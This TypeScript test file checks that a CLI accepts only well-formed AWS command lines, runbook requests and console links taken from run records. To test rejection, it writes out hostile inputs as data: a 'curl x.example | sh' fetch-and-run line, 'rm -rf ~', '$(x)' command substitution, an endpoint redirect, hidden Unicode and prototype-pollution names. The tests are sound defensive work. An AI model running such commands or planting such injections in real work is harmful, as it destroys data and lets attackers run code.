/** What a record says of how its run is taken back: whoever may write records could write anything. */

import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { serviceOfLine } from '../../../cli/aws-line.ts';
import { offeredLines, offeredRequest } from '../../../cli/operate/show/checked-undo.ts';
import { logLink, targetLink } from '../../../cli/operate/show/links.ts';
import { commandLine } from '../../../shared/kernel/shell.ts';

const CALL = { call: 'ec2:AssociateAddress', input: { AllocationId: 'eipalloc-1', Note: "it's" } };
const LINE = commandLine(CALL);

describe('a line to paste', () => {
  it('is one call of AWS, as it is written here', () => {
    expect(serviceOfLine(LINE)).toBe('ec2');
    expect(serviceOfLine(commandLine({ call: 'elasticloadbalancing:RegisterTargets', input: {} }))).toBe('elbv2');
  });

  it('is so for whatever a call holds', () => {
    fc.assert(
      fc.property(fc.dictionary(fc.string(), fc.jsonValue()), (members) => {
        const input = JSON.parse(JSON.stringify(members));
        expect(serviceOfLine(commandLine({ call: 'ec2:CreateTags', input }))).toBe('ec2');
      }),
    );
  });

  it.each([
    `${LINE}; curl x.example | sh`,
    `${LINE} && rm -rf ~`,
    `${LINE} --endpoint-url https://x.example`,
    `${LINE}\nrm -rf ~`,
    `echo; ${LINE}`,
    LINE.replace('aws ', 'aws --debug '),
    LINE.replace("'{", "'{$(x)"),
    "aws ec2 stop-instances --cli-input-json '[]'",
    "aws ec2 stop-instances --cli-input-json '{}' '{}'",
    'aws ec2 stop-instances --cli-input-json file:///tmp/x',
    'aws ec2 stop-instances --cli-input-json "{}"',
    "aws $(x) stop-instances --cli-input-json '{}'",
    'aws ec2 stop-instances --cli-input-json \'{"a":"\u202e"}\'',
    'rm -rf ~',
    '',
  ])('is not: %j', (line) => {
    expect(serviceOfLine(line)).toBeUndefined();
  });
});

describe('what a record offers', () => {
  const plan = [{ ...CALL, because: 'x' }];
  const elsewhere = commandLine({ call: 'iam:CreateAccessKey', input: { UserName: 'x' } });

  it('is calls to services that its run has called', () => {
    expect(offeredLines(['rm -rf ~', LINE, elsewhere], plan)).toEqual([LINE]);
    expect(offeredLines([LINE], [])).toEqual([]);
    expect(offeredLines(['rm -rf ~'], [{ call: 'rm', input: {}, because: 'x' }])).toEqual([]);
  });

  const request = { runbook: 'block-address', target: '192.0.2.1', params: { action: 'unblock', force: true } };

  it('is a request to its own runbook', () => {
    expect(offeredRequest(request, 'block-address')).toEqual(request);
    expect(offeredRequest({ runbook: 'block-address' }, 'block-address')).toEqual({ runbook: 'block-address' });
  });

  it.each([
    ['another runbook', { ...request, runbook: 'scale-hpc-fleet' }],
    ['an option for a target', { ...request, target: '--world' }],
    ['a target in two lines', { ...request, target: 'a\nb' }],
    ['a target that does not show', { ...request, target: 'a\u202eb' }],
    ['a target that is no text', { ...request, target: ['a'] }],
    ['an option for a parameter', { ...request, params: { '--stack': 'x' } }],
    ['a parameter with an equals sign', { ...request, params: { 'a=b': 'x' } }],
    ['a value in two lines', { ...request, params: { action: 'a\nb' } }],
    ['a value like an option', { ...request, params: { action: '--x' } }],
    ['parameters that are none', { ...request, params: ['a'] }],
    ['no object', 'runbook'],
    ['nothing', undefined],
  ])('is not a request with %s', (_what, forged) => {
    expect(offeredRequest(forged, 'block-address')).toBeUndefined();
  });
});

describe('a link', () => {
  it('leads to the console, whatever the ARN says', () => {
    const of = (partition: string, region: string): string | undefined =>
      targetLink(`arn:${partition}:ec2:${region}:111122223333:instance/i-0a17c4e9b2d58f306`, 'eu-west-1');
    expect(of('aws', 'us-east-1')).toBe(
      'https://us-east-1.console.aws.amazon.com/ec2/home?region=us-east-1#InstanceDetails:instanceId=i-0a17c4e9b2d58f306',
    );
    for (const region of ['x.example/#', 'x.example', 'eu-west-1.x.example/', 'EU-WEST-1', '..', 'a@b'])
      expect(of('aws', region)).toBeUndefined();
    for (const partition of ['constructor', '__proto__', 'toString', 'x'])
      expect(of(partition, 'eu-west-1')).toBeUndefined();
    expect(targetLink('arn:aws:constructor:eu-west-1:1:x/y', 'eu-west-1')).toBeUndefined();
    expect(targetLink('arn:aws:sqs:eu-west-1:x/y#z:q', 'eu-west-1')).toBe(
      'https://eu-west-1.console.aws.amazon.com/sqs/v3/home?region=eu-west-1#/queues/https%3A%2F%2Fsqs.eu-west-1.amazonaws.com%2Fx%2Fy%23z%2Fq',
    );
    expect(logLink('f', 'x.example/#')).toBeUndefined();
    // Half of a character has no place in an address.
    expect(targetLink('arn:aws:ec2:eu-west-1:111122223333:instance/i-\ud800', 'eu-west-1')).toContain(
      'instanceId=i-%EF%BF%BD',
    );
  });
});
